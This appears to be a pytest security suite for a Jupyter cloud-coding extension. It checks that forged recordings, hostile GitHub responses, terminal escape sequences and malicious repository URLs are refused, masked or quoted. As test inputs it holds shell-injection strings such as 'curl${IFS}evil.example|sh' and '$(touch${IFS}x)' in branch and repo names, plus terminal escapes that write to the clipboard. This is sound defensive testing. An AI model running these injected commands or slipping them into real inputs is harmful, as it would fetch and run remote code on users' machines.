"""Opening a notebook folder from someone else: a recording, GitHub's answers, a repository URL and
git's output are written by strangers. One test (or a few) per attack of issue 15, numbered as
there, through what a user touches: the magics, ``invoke``/``load_run``, ``pull``, and terminal
IPython for what reaches a terminal."""

from __future__ import annotations

import base64
import datetime
import json
import math
import os
import pickle
import re
import shlex
import subprocess
import sys
import uuid
from pathlib import Path
from typing import Any
from urllib.parse import quote

import numpy as np
import pytest
from IPython.core.error import UsageError

import cc_jupyter
from cc_jupyter.changes.pull import pull
from cc_jupyter.client.replay import LONGEST_REPLAY, pauses
from cc_jupyter.recordings.format import FORMAT, MARK, ask_key
from cc_jupyter.run.state import RunInfo
from cc_jupyter.views.transcript import Transcript

from .conftest import API_KEY, GITHUB_TOKEN, cell, line
from .git_world import REPO, World, git
from .listener import Listener, json_answer

SHA_BEFORE, SHA_AFTER = "a" * 40, "b" * 40
ESCAPES = ["\x1b]0;pwned\x07", "\x1b]52;c;cHduZWQ=\x07", "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x1b[2J"]
HOSTILE = "".join(ESCAPES)


def craft(folder: Path, name: str | None = None, *, header: dict[str, Any] | None = None,
          events: list[Any] | None = None, end: dict[str, Any] | None = None,
          changes: dict[str, Any] | None = None) -> Path:
    """A recording as a stranger could write it (defaults: a valid, completed one)."""
    folder.mkdir(parents=True, exist_ok=True)
    recording_id = uuid.uuid4().hex
    document = {
        MARK: FORMAT, "id": recording_id, "recorded_at": datetime.datetime.now(datetime.timezone.utc).isoformat(),
        "repo": "https://github.com/octo/demo", "branch": "main", "haiku": False, "parallel": False,
        "prompts": {"main": "a recorded prompt"}, "thread_id": str(uuid.uuid4()), "continues": None,
        "key": "ignored", "source": "api", "kernel": "a-stranger", **(header or {}),
    }
    lines: list[Any] = [document, *(events if events is not None else [[0.1, "custom", {"task_name": "main", "stdout": "hi\n"}]])]
    if changes is not None:
        lines.append({"changes": changes})
    lines.append({"end": end if end is not None else {"status": "completed", "error": None, "duration": 1.0}})
    path = folder / (name or f"20260101-000000-000000-{recording_id[:8]}.jsonl")
    path.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    return path


def elsewhere(url: str) -> str:
    """The listener's URL by another name than the simulator's host (both listen on 127.0.0.1)."""
    return url.replace("127.0.0.1", "localhost")


def recordings(tmp_path: Path) -> Path:
    return tmp_path / "recordings"  # the shell fixture's CLOUDCODE_RECORD_DIR


# ----- 1. the token goes only to the GitHub the user configured -----
@pytest.mark.parametrize("configured", [None, "simulator"])
def test_1_a_recording_never_chooses_where_the_token_goes(shell, simulator, tmp_path, monkeypatch, capsys, configured):
    if configured:
        monkeypatch.setenv("CLOUDCODE_GITHUB_API_URL", simulator.url + "/github")
    with Listener() as hostile:
        repo = f"{elsewhere(hostile.url)}/o/r"
        changes = {"repo": repo, "branch": "main", "before": SHA_BEFORE, "error": "rate limit"}
        craft(recordings(tmp_path), header={"repo": repo}, changes=changes)
        future = craft(recordings(tmp_path), header={"repo": repo, "recorded_at": "2999-01-01T00:00:00+00:00"},
                       changes=changes)
        for _ in range(3):
            line(shell, "diff")
        assert hostile.received == []
    out = capsys.readouterr().out
    assert out.count(future.name) == 1 and "recorded_at" in out  # the forged date: skipped, named once
    assert "changes unavailable" in out and "neither github.com nor the GitHub configured" in out


def test_1_a_run_on_another_host_is_refused_before_anything_is_sent(simulator, tmp_path):
    with Listener() as hostile:
        before = len(simulator.request_log())
        for configured in (None, simulator.url + "/github"):
            with pytest.raises(cc_jupyter.InvalidRequestError, match="Not a repository the API works on"):
                cc_jupyter.invoke("x", repo=f"{elsewhere(hostile.url)}/o/r", api_url=simulator.url, api_key=API_KEY,
                                  github_token=GITHUB_TOKEN, github_api_url=configured)
        assert hostile.received == [] and len(simulator.request_log()) == before


def test_1_a_redirect_from_the_configured_github_does_not_carry_the_token(simulator):
    with Listener() as elsewhere:
        def answer(method: str, path: str):
            return 302, {"Location": f"{elsewhere.url}{path}"}, b""

        with Listener(answer) as github:
            run = cc_jupyter.invoke("x\nsim: push=none", repo="https://github.com/octo/demo", api_url=simulator.url,
                                    api_key=API_KEY, github_token=GITHUB_TOKEN, github_api_url=github.url)
        assert github.received and all(r.headers.get("Authorization") == f"Bearer {GITHUB_TOKEN}" for r in github.received)
        assert elsewhere.received and not any("Authorization" in r.headers for r in elsewhere.received)
    assert run.changes is not None and run.changes.error


# ----- 2. what GitHub sends is masked where it enters -----
KEY_FORMS = [API_KEY, base64.b64encode(API_KEY.encode()).decode(), base64.b64encode(b"x" + API_KEY.encode()).decode(),
             base64.urlsafe_b64encode(b"xy" + API_KEY.encode()).decode(), quote("?" + API_KEY + "&", safe="")]
EVIDENCE = [API_KEY, *(form[4:-4] for form in KEY_FORMS[1:4])]  # what no surface may hold, in any alignment


def github_with_the_key_inside(method: str, path: str):
    inside = " ".join(KEY_FORMS)
    if "/branches/" in path:
        github_with_the_key_inside.heads += 1  # type: ignore[attr-defined]
        return json_answer(200, {"commit": {"sha": SHA_BEFORE if github_with_the_key_inside.heads == 1 else SHA_AFTER}})  # type: ignore[attr-defined]
    if "/compare/" in path:
        return json_answer(200, {
            "html_url": f"https://github.com/octo/demo/compare/{API_KEY}",
            "commits": [{"sha": SHA_AFTER, "html_url": f"https://github.com/octo/demo/commit/{SHA_AFTER}?k={API_KEY}",
                         "commit": {"message": f"add the key {inside}"}}],
            "files": [{"filename": f"keys/{API_KEY}.txt", "status": "added", "additions": 2, "deletions": 0,
                       "patch": f"@@ -0,0 +1,2 @@\n+{inside}\n+{API_KEY}", "blob_url": f"https://github.com/x/{API_KEY}",
                       "previous_filename": API_KEY}],
        })
    return json_answer(404, {"message": f"no such thing {inside}"})


def leaks(*texts: str) -> list[str]:
    return [form for form in EVIDENCE for text in texts if form in text]


def test_2_the_api_key_inside_githubs_answers_is_masked_on_every_surface(simulator, tmp_path):
    github_with_the_key_inside.heads = 0  # type: ignore[attr-defined]
    with Listener(github_with_the_key_inside) as github:
        run = cc_jupyter.invoke("x\nsim: push=none", repo="https://github.com/octo/demo", api_url=simulator.url,
                                api_key=API_KEY, github_token=GITHUB_TOKEN, github_api_url=github.url, record=tmp_path)
    changes = run.changes
    assert changes is not None and changes.error is None and changes.commits and changes.files
    bundle = Transcript(run)._repr_mimebundle_()
    back = cc_jupyter.load_run(run.recording)
    surfaces = [repr(changes), json.dumps(changes.to_json()), bundle["text/html"], bundle["text/plain"],
                run.recording.read_text(encoding="utf-8"), json.dumps(back.changes.to_json()),
                pickle.dumps(run).decode("latin-1")]
    assert leaks(*surfaces) == []
    assert "****" in changes.commits[0].message and "****" in changes.files[0].filename


def test_2_a_github_error_message_holding_the_key_is_masked(simulator):
    with Listener(lambda method, path: json_answer(403, {"message": f"denied for {API_KEY}"})) as github:
        run = cc_jupyter.invoke("x\nsim: push=none", repo="https://github.com/octo/demo", api_url=simulator.url,
                                api_key=API_KEY, github_token=GITHUB_TOKEN, github_api_url=github.url)
    assert run.changes is not None and "denied for ****" in run.changes.error
    assert leaks(repr(run.changes), pickle.dumps(run).decode("latin-1")) == []


def test_2_diff_and_show_in_the_magics_mask_it_too(shell, tmp_path, monkeypatch, capsys):
    github_with_the_key_inside.heads = 0  # type: ignore[attr-defined]
    with Listener(github_with_the_key_inside) as github:
        monkeypatch.setenv("CLOUDCODE_GITHUB_API_URL", github.url)
        cell(shell, "-o r_github", "x\nsim: push=none")
        line(shell, "diff")
    [recording] = recordings(tmp_path).glob("*.jsonl")
    line(shell, "history clear")
    recorded_id = json.loads(recording.read_text(encoding="utf-8").splitlines()[0])["id"]
    line(shell, f"show {recorded_id[:8]}")
    out = capsys.readouterr().out
    assert "add the key ****" in out and leaks(out) == []


# ----- 3. nothing from outside reaches a terminal raw -----
def terminal_ipython(lines: list[str], cwd: Path, env: dict[str, str]) -> str:
    """Feed ``lines`` to a real terminal IPython; what it wrote to the terminal (stdout + stderr)."""
    done = subprocess.run(
        # IPython's own window title (term_title, on by default in IPython 8.0) is not outside text.
        [sys.executable, "-m", "IPython", "--simple-prompt", "--colors=NoColor", "--no-banner",
         "--TerminalInteractiveShell.term_title=False"],
        input="\n".join(lines) + "\n", capture_output=True, text=True, cwd=cwd, env=env, timeout=120, check=False,
    )
    return done.stdout + done.stderr


def only_colours(text: str) -> bool:
    """True when every escape sequence in ``text`` is a colour (SGR), and no BEL is left."""
    return "\x07" not in text and not re.search(r"\x1b(?!\[[0-9;]*m)", text)


def test_3_history_show_replayed_errors_and_pull_refusals_reach_a_terminal_clean(world: World, simulator, tmp_path):
    folder = tmp_path / "stranger-recordings"
    failed = craft(folder, header={"prompts": {"main": f"replay me {HOSTILE}\n"}, "branch": "main"},
                   events=[[0.1, "custom", {"task_name": f"main{HOSTILE}", "stdout": f"out {HOSTILE}\n"}]],
                   end={"status": f"failed{HOSTILE}", "error": {"kind": "error_event", "message": f"boom {HOSTILE}"}})
    craft(folder, name=f"named{HOSTILE.replace('/', '')}.jsonl", header={"repo": f"https://github.com/o/r{HOSTILE}"})
    craft(folder, header={"branch": f"main{HOSTILE}"})
    craft(folder, header={"id": f"{HOSTILE}deadbeef"})
    recorded_id = json.loads(failed.read_text(encoding="utf-8").splitlines()[0])["id"]
    world.helper("loud", f"import sys\nsys.stderr.write({'fatal: ' + HOSTILE + chr(10)!r})\nsys.exit(1)\n")
    env = {**os.environ, "CLOUDCODE_RECORD_DIR": str(folder), "CLOUDCODE_REPLAY": "auto", "CLOUDCODE_API_URL": simulator.url,
           "CLOUDCODE_API_KEY": API_KEY, "GITHUB_TOKEN": GITHUB_TOKEN, "CLOUDCODE_REPO": "https://github.com/octo/demo"}
    shown = terminal_ipython([
        "%load_ext cc_jupyter",
        "%cloudcode history",
        f"_ = get_ipython().run_cell({f'%%cloudcode --replay --text{chr(10)}replay me {HOSTILE}'!r})",
        f"%cloudcode show {recorded_id[:8]}",
        f"%cloudcode pull {recorded_id[:8]}",
        "print('the end')",
    ], world.user, env)
    assert "the end" in shown and "boom" in shown and "RunFailedError" in shown, shown
    assert "PullRefused" in shown and "fatal:" in shown  # git's stderr, quoted
    assert "skipped" in shown and "named" in shown
    assert only_colours(shown), [m for m in re.findall(r"\x1b.{0,12}|\x07", shown) if not re.match(r"\x1b\[[0-9;]*m", m)]


# ----- 4. a recording is read as a hostile file -----
@pytest.mark.timeout(60)  # a FIFO opened for reading would block forever
def test_4_links_fifos_devices_and_absurd_numbers_are_skipped_named_once(shell, tmp_path, capsys):
    folder = recordings(tmp_path)
    good = craft(folder, header={"prompts": {"main": "the good one"}})
    (folder / "zero.jsonl").symlink_to("/dev/zero")
    os.mkfifo(folder / "pipe.jsonl")
    (folder / "folder.jsonl").mkdir()
    outside = craft(tmp_path / "elsewhere", header={"prompts": {"main": "outside"}})
    (folder / "out.jsonl").symlink_to(outside)
    (folder / "inside.jsonl").symlink_to(good.name)  # a link within the folder is fine
    craft(folder, name="infinite.jsonl", end={"status": "completed", "duration": float("inf")})
    craft(folder, name="far.jsonl", header={"recorded_at": "9999-12-31T23:59:59+00:00"})
    craft(folder, name="huge.jsonl", header={"recorded_at": 1e308})
    craft(folder, name="overflow.jsonl", end={"status": "completed", "duration": 10**400})
    (folder / "long.jsonl").write_bytes(b'{"cc_jupyter_recording": 1, "id": "' + b"a" * (5 << 20) + b'"}\n')
    line(shell, "history")
    first = capsys.readouterr().out
    for skipped in ("zero", "pipe", "folder", "out", "far", "huge", "long"):
        assert first.count(f"{skipped}.jsonl") == 1, skipped
    assert "leading out of its folder" in first and "not a regular file" in first
    assert "the good one" in first and "outside" not in first
    line(shell, "history")
    cell(shell, "--dry-run", "a question")
    again = capsys.readouterr().out
    assert "skipped" not in again and "the good one" in again  # named once, not on every cell
    for absurd in ("infinite.jsonl", "overflow.jsonl"):  # a duration no float holds is not taken
        loaded = cc_jupyter.load_run(folder / absurd)
        assert loaded.status == "completed" and math.isfinite(loaded.duration), (absurd, loaded.duration)


def test_4_a_whole_replay_lasts_at_most_thirty_seconds_whatever_the_file_says():
    offsets = [100.0 * n for n in range(100_000)]
    assert sum(pauses(offsets, speed=10)) <= LONGEST_REPLAY + 1e-6
    assert sum(pauses(offsets, speed=0.001)) <= LONGEST_REPLAY + 1e-6
    short = pauses([0.0, 0.5, 1.0], speed=10)
    assert short == pytest.approx([0.0, 0.05, 0.05])  # an ordinary recording keeps its pace


# ----- 5. the match key is recomputed, never read from the header -----
def test_5_a_header_copied_from_another_cell_replays_nothing_for_it(shell, tmp_path):
    cell(shell, "-o r_alpha", "the alpha question")
    [original] = recordings(tmp_path).glob("*.jsonl")
    lines = original.read_text(encoding="utf-8").splitlines()
    header = json.loads(lines[0])
    beta = RunInfo(header["repo"], header["branch"], False, {"main": "the beta question"}, False)
    forged = {**header, "id": uuid.uuid4().hex, "key": ask_key(beta)}
    (original.parent / "forged.jsonl").write_text("\n".join([json.dumps(forged), *lines[1:]]) + "\n", encoding="utf-8")
    shell.run_line_magic("unload_ext", "cc_jupyter")
    shell.run_line_magic("load_ext", "cc_jupyter")  # a new session: its recordings are another kernel's
    shell.run_line_magic("config", "CloudCode.replay = 'only'")
    try:
        with pytest.raises(UsageError, match="No recording"):
            cell(shell, "-o r_beta", "the beta question")
        cell(shell, "-o r_alpha2", "the alpha question")
        assert shell.user_ns["r_alpha2"].info.prompts == {"main": "the alpha question"}
    finally:
        shell.run_line_magic("config", "CloudCode.replay = ''")


# ----- 6. suggested commands quote every value -----
def commands_in(message: str) -> list[list[str]]:
    return [shlex.split(command) for command in re.findall(r"`([^`]+)`", message)]


def test_6_a_repository_url_that_is_a_shell_command_is_refused_at_the_border(shell, tmp_path, capsys):
    craft(recordings(tmp_path), header={"repo": "https://github.com/o/r;curl${IFS}evil.example|sh"})
    with pytest.raises(UsageError, match="No runs yet"):
        line(shell, "pull")
    assert "repository is not valid" in capsys.readouterr().out


def test_6_suggested_git_commands_are_quoted(world: World, tmp_path):
    branch = "x;curl${IFS}evil.example|sh"  # a valid git branch name
    message = world.refusal(REPO, branch)
    assert ["git", "fetch", "origin", branch] in commands_in(message)
    assert ["git", "switch", branch] in commands_in(message)
    lost = tmp_path / "not-a-clone"
    lost.mkdir()
    with pytest.raises(cc_jupyter.PullRefused) as refused:
        pull("https://github.com/o/r$(touch${IFS}x)", "main", cwd=lost)
    assert ["git", "clone", "https://github.com/o/r$(touch${IFS}x)"] in commands_in(str(refused.value))


# ----- 7. -i refuses a secret in any disguise -----
DISGUISES = {
    "chars": list(GITHUB_TOKEN),
    "array": np.array(list(GITHUB_TOKEN)),
    "b64": base64.b64encode(GITHUB_TOKEN.encode()).decode(),
    "b64url": base64.urlsafe_b64encode(b"key=" + API_KEY.encode()).decode(),
    "split": GITHUB_TOKEN[:17] + "\n" + GITHUB_TOKEN[17:],
    "percent": "".join(f"%{byte:02X}" for byte in API_KEY.encode()),
    "key_chars": tuple(API_KEY),
}


@pytest.mark.parametrize("template", ["{chars}", "{array}", "{b64}", "{b64url}", "{split}", "{percent}", "{key_chars}",
                                      "{nul!r}", "{zero_width!r}", "{half1}\n{half2}", "{half1}{half2}"])
def test_7_a_disguised_secret_is_refused(shell, capsys, template):
    shell.user_ns.update(DISGUISES, nul=GITHUB_TOKEN[:9] + "\x00" + GITHUB_TOKEN[9:],
                         zero_width=GITHUB_TOKEN[:9] + "\u200b" + GITHUB_TOKEN[9:],
                         half1=GITHUB_TOKEN[:20], half2=GITHUB_TOKEN[20:])
    with pytest.raises(UsageError, match="secret"):
        cell(shell, "-i --dry-run", f"Look at {template}")
    out = capsys.readouterr().out
    assert GITHUB_TOKEN not in out and GITHUB_TOKEN[9:] not in out


def test_7_ordinary_values_are_still_sent(shell, capsys):
    shell.user_ns.update(words=["alpha", "beta"], numbers=np.arange(5), text="ghp is a prefix; see base64 docs")
    cell(shell, "-i --dry-run", "Use {words} and {numbers} and {text}")
    assert "'alpha', 'beta'" in capsys.readouterr().out


# ----- 8. git runs without the project's secrets -----
def test_8_git_runs_with_an_environment_stripped_of_the_secrets(world: World, monkeypatch):
    world.push({"new.txt": "x\n"})
    dump = world.tmp / "git-environments"
    wrapper = world.tmp / "wrapped" / "git"
    wrapper.parent.mkdir()
    real = subprocess.run(["which", "git"], capture_output=True, text=True, check=True).stdout.strip()
    wrapper.write_text(f"#!/bin/sh\nenv >> '{dump}'\necho ---- >> '{dump}'\nexec '{real}' \"$@\"\n")
    wrapper.chmod(0o755)
    monkeypatch.setenv("PATH", f"{wrapper.parent}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setenv("GITHUB_TOKEN", GITHUB_TOKEN)
    monkeypatch.setenv("GH_TOKEN", "ghp_" + "G" * 36)
    monkeypatch.setenv("CLOUDCODE_API_KEY", API_KEY)
    monkeypatch.setenv("SOME_TOOL_SETTING", f"token={GITHUB_TOKEN}")
    pull(REPO, "main", cwd=world.user)
    seen = dump.read_text()
    assert seen.count("----") >= 5  # every git command went through the wrapper
    for secret in (GITHUB_TOKEN, "G" * 36, API_KEY):
        assert secret not in seen
    assert "GITHUB_TOKEN=" not in seen and "GH_TOKEN=" not in seen and "CLOUDCODE_API_KEY=" not in seen
    assert "LC_ALL=C" in seen


# ----- 9. the API key in a remote's URL is never shown -----
def test_9_the_api_key_in_a_remote_url_query_or_fragment_is_not_shown(world: World, monkeypatch):
    monkeypatch.setenv("CLOUDCODE_API_KEY", API_KEY)
    git(world.user, "remote", "add", "fork", f"https://github.com/someone/demo?key={API_KEY}#{API_KEY}")
    git(world.user, "remote", "add", "mirror", f"https://{API_KEY}@mirror.example/demo")
    message = world.refusal("https://github.com/octo/other", "main")
    assert "fork → https://github.com/someone/demo," in message and "mirror → https://mirror.example/demo" in message
    assert API_KEY not in message and API_KEY[:20] not in message
